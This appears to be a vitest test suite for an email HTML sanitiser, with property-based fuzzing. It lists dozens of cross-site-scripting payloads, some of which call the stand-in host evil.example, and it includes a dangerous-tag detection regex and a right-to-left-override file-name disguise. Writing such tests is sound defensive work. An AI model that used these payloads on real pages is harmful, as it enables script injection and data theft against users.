import fc from 'fast-check'
import { expect, test } from 'vitest'
import { readFixture, readText } from './reading-fixtures.ts'
import { safeStyle, sanitise } from './sanitise.ts'

/** Ways to make a page run something, each in another clothing. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="java\nscript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href=" \u0001javascript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css); body{background:url(javascript:alert(1))}</style>',
  '<div style="background:url(https://evil.example/x.png)">a</div>',
  '<div style="width:expression(alert(1))">a</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">a</div>',
  '<div style="behavior:url(x.htc);-moz-binding:url(x.xml)">a</div>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="https://evil.example/x.png 2x" src="cid:a">',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)><p>a</p></body>',
  '<table background="https://evil.example/x.png"><tr><td background="javascript:alert(1)">a</td></tr></table>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><script>alert(1)</script></xmp>',
  '<p id="app" name="cookie" class="btn-danger" contenteditable autofocus onfocus=alert(1)>a</p>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<details ontoggle=alert(1) open>a</details>',
]

/** Everything in the answer that a browser could run, fetch or place on top of our own page. */
function dangersIn(html: string): string[] {
  const tags = html.match(/<[a-z/][^>]*>/gi) ?? []
  const forbidden =
    /^<\/?(script|style|svg|math|iframe|object|embed|form|input|button|textarea|meta|base|link|video|audio|source|template|noscript|xmp|body|html)\b|\son\w+\s*=|javascript:|vbscript:|data:(?!image\/(png|gif|jpe?g|webp))|url\(|expression|position\s*:|\s(src|srcset|background|id|name|class|formaction|action)=/i
  return tags.map((tag) => tag.replace(/\s(title|alt|lang)="[^"]*"/g, '')).filter((tag) => forbidden.test(tag))
}

test.each(VECTORS)('nothing runs, fetches or covers: %s', async (vector) => {
  expect(dangersIn(sanitise(`<p>Hello</p>${vector}`).html)).toEqual([])
  const mail = await readText(`From: kari@kunde.example\nContent-Type: text/html; charset=utf-8\n\n<p>Hello</p>${vector}`)
  expect(dangersIn(mail.html ?? '')).toEqual([])
})

test.each(VECTORS)('a subject, a name and a file name are text on one line: %s', async (vector) => {
  const word = `=?utf-8?B?${Buffer.from(vector).toString('base64')}?=`
  const mail = await readText(
    `From: ${word} <kari@kunde.example>\nSubject: ${word}\nContent-Type: text/html\nContent-Disposition: attachment; filename="${word}"\n\n${vector}`,
  )
  expect(`${mail.subject}${mail.from?.name}`).not.toMatch(/[\p{Cc}\u2028\u2029]/u)
  expect(mail.attachments).toHaveLength(1)
  expect(mail.attachments[0]?.name).not.toMatch(/[<>"/\\|?*:\p{Cc}]/u)
  expect(mail.html).toBeUndefined()
})

test('a file keeps no path and no disguise', async () => {
  const mail = await readFixture('xss')
  expect(mail.attachments).toMatchObject([{ name: '_svg onload=alert(6)_.html' }])
  const disguised = await readText('Content-Disposition: attachment; filename="=?utf-8?Q?bill=E2=80=AEgpj.exe?="\n\nx')
  expect(disguised.attachments).toMatchObject([{ name: 'billgpj.exe' }])
})

test('a link opens elsewhere and tells nobody where from', () => {
  expect(sanitise('<a href="https://shop.example/a?b=1&amp;c=2">a</a>').html).toBe(
    '<a href="https://shop.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">a</a>',
  )
  expect(sanitise('<a href="/settings/delete">a</a>').html).not.toContain('href')
})

test('a picture within the address stays, one from the web waits', () => {
  const inside = '<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo" />'
  expect(sanitise(inside)).toMatchObject({ hasRemoteImages: false, html: expect.stringContaining('src="data:image/png') })
  expect(sanitise('<img src="//shop.example/a.png">')).toMatchObject({
    hasRemoteImages: true,
    html: '<img data-remote-src="https://shop.example/a.png" />',
  })
})

test('what the sender hid stays hidden', () => {
  expect(sanitise('<p>Hello</p><div style="display:none">[mg-abcdefgh234567ab]<b>x</b></div><p>there</p>').html).toBe(
    '<p>Hello</p><p>there</p>',
  )
})

test('looks survive, places and addresses do not', () => {
  expect(safeStyle('color: red; font-family: "Arial", sans-serif; position: fixed; background-color:#fff !important')).toBe(
    "color:red;font-family:'Arial', sans-serif;background-color:#fff",
  )
  expect(safeStyle('margin:-500px; padding: 4px; width: calc(100% + 1px); color: var(--x)')).toBe('padding:4px')
})

test('no random page is dangerous, and what is clean stays as it is', () => {
  const piece = fc.oneof(
    fc.constantFrom(...VECTORS),
    fc.constantFrom('<p>', '</p>', '"', "'", '>', '<', '<!--', '-->', '<a href=', '&lt;', '\0'),
    fc.string({ maxLength: 8 }),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      const once = sanitise(pieces.join('')).html
      expect(dangersIn(once)).toEqual([])
      expect(once).not.toMatch(/[\0\p{Cs}]/u)
      expect(dangersIn(sanitise(once).html)).toEqual([])
    }),
    { numRuns: 300 },
  )
})
